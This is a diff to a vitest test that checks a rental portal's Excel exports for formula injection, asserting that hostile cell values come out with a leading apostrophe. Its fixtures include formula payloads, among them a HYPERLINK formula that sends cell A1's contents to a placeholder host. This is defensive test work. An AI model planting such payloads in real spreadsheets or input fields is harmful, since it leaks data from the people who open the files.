@@ -2,14 +2,21 @@
 // that starts like a formula (=, +, -, @, tab, carriage return) reaches the sheet with a
 // leading apostrophe, so neither a spreadsheet nor a CSV saved from it runs it
 // (files/xlsx-writer.ts `asPlainText`). A download added later needs its hostile rows here.
+import {
+  MANAGEMENT_EXCEL_PATH,
+  ZManagementExcelRequest,
+  type TManagementDocumentType,
+} from '@portal/shared/contract/management';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { createRentalsTestContext } from '../testing/rental-fixtures.js';
+import { todayIso } from '../routes/rentals/request-fields.js';
+import { createRentalsTestContext, idOf } from '../testing/rental-fixtures.js';
 import { readSheet } from '../testing/read-sheet.js';
 import type { TTestContext } from '../testing/test-context.js';
 import { CONTRACT_EXPORTS } from '../testing/whole-contract.js';
 
 let t: TTestContext;
 let anna: string;
+let topLocation: number;
 
 const HOSTILE = {
   location: '=HYPERLINK("https://example.invalid/?"&A1,"Klik")',
@@ -20,6 +27,7 @@ const HOSTILE = {
   brand: '\tmerk',
   type: '\rtype',
   depotName: '=2+5',
+  warehouse: '=3+4',
 };
 
 /** A body of each download that lists the rows made hostile below. */
@@ -28,10 +36,55 @@ const DOWNLOADS: Record<string, object> = {
   '/customer/requests/overview/excel': { tabType: 'open' },
   '/customer/articles/overview/excel': { tabType: 'location', filters: {} },
   '/customer/depot/cases/excel': { tabType: 'pending' },
-  // the management overviews' files: the rental overview holds contacts, end users, rooms
-  // and locations (the others share the writer's one text path)
-  '/customer/management/overviews/excel': { documentType: 'activerental' },
 };
+
+/** The management download's PDFs (a repair's slip, an invoice): no rows of the lists. */
+type TManagementPdf = 'repair' | 'invoice';
+const MANAGEMENT_PDFS: readonly TManagementPdf[] = ['repair', 'invoice'];
+
+/** A body of each spreadsheet of the management download (one path, by documentType). */
+function managementDownloads(): Record<Exclude<TManagementDocumentType, TManagementPdf>, object> {
+  const today = todayIso();
+  return {
+    rental: { documentType: 'rental', tabType: 'DELIVER' },
+    activerental: { documentType: 'activerental' },
+    'rental-category': { documentType: 'rental-category', tabType: 'ACTIVE' },
+    rentaldate: { documentType: 'rentaldate', filters: { date: today } },
+    repairs: { documentType: 'repairs' },
+    depot: { documentType: 'depot' },
+    'depot-category': { documentType: 'depot-category' },
+    depotdate: { documentType: 'depotdate', filters: { date: today } },
+    'products location': { documentType: 'products location' },
+    'products depot': { documentType: 'products depot' },
+    rentalcost: {
+      documentType: 'rentalcost',
+      filters: {
+        fromMonth: 1,
+        fromYear: Number(today.slice(0, 4)) - 1,
+        toMonth: 12,
+        toYear: Number(today.slice(0, 4)),
+        locationId: topLocation,
+        groupByLocation: true,
+        groupByDepartment: true,
+      },
+    },
+    invoices: { documentType: 'invoices' },
+  };
+}
+
+/** Every spreadsheet: a name, its path and (once the data is there) its body. */
+const SPREADSHEETS: [string, string, () => object][] = [
+  ...Object.entries(DOWNLOADS).map(([path, body]): [string, string, () => object] => [
+    path,
+    path,
+    () => body,
+  ]),
+  ...Object.keys(managementDownloads()).map((type): [string, string, () => object] => [
+    `${MANAGEMENT_EXCEL_PATH} ${type}`,
+    MANAGEMENT_EXCEL_PATH,
+    () => managementDownloads()[type as keyof ReturnType<typeof managementDownloads>],
+  ]),
+];
 
 beforeAll(async () => {
   const context = await createRentalsTestContext();
@@ -56,6 +109,12 @@ beforeAll(async () => {
   await t.db.query(`UPDATE depot_cases SET name = $1 WHERE organisation_id = ${org}`, [
     HOSTILE.depotName,
   ]);
+  // why: 'Depot op datum' names the depot a product was in (warehouses are the supplier's).
+  await t.db.query('UPDATE warehouses SET name = $1', [HOSTILE.warehouse]);
+  topLocation = await idOf(
+    t.db,
+    `SELECT id FROM locations WHERE organisation_id = ${org} AND parent_id IS NULL ORDER BY id LIMIT 1`,
+  );
 });
 afterAll(() => t.close());
 
@@ -64,19 +123,27 @@ const FORMULA_START = /^[=+\-@\t\r]/;
 describe('formula injection in every Excel download', () => {
   it('knows every download of the contract', () => {
     const paths = CONTRACT_EXPORTS.map(({ path }) => path);
-    expect(paths.filter((path) => !(path in DOWNLOADS))).toEqual([]);
+    expect(paths.filter((path) => !(path in DOWNLOADS) && path !== MANAGEMENT_EXCEL_PATH)).toEqual(
+      [],
+    );
   });
 
-  it.each(Object.entries(DOWNLOADS))(
+  it('knows every spreadsheet of the management download', () => {
+    const types = ZManagementExcelRequest.options.map((option) => option.shape.documentType.value);
+    const spreadsheets = types.filter((type) => !(MANAGEMENT_PDFS as string[]).includes(type));
+    expect(Object.keys(managementDownloads()).sort()).toEqual(spreadsheets.sort());
+  });
+
+  it.each(SPREADSHEETS)(
     '%s writes no text cell that starts like a formula',
-    async (path, body) => {
+    async (name, path, body) => {
       const answer = await t.app.inject({
         method: 'POST',
         url: `/Rest/Pwa${path}`,
         headers: { 'x-auth-token': anna },
-        payload: body,
+        payload: body(),
       });
-      expect(answer.statusCode).toBe(200);
+      expect(answer.statusCode, answer.payload.slice(0, 300)).toBe(200);
       const { rows } = await readSheet(answer.rawPayload);
       const texts = rows.flat().filter((cell): cell is string => typeof cell === 'string');
       expect(texts.filter((text) => FORMULA_START.test(text))).toEqual([]);
@@ -84,7 +151,7 @@ describe('formula injection in every Excel download', () => {
       const defused = texts.filter((text) =>
         Object.values(HOSTILE).some((hostile) => text.includes(`'${hostile}`)),
       );
-      expect(defused.length, `hostile cells in ${path}`).toBeGreaterThan(0);
+      expect(defused.length, `hostile cells in ${name}`).toBeGreaterThan(0);
     },
   );
 });
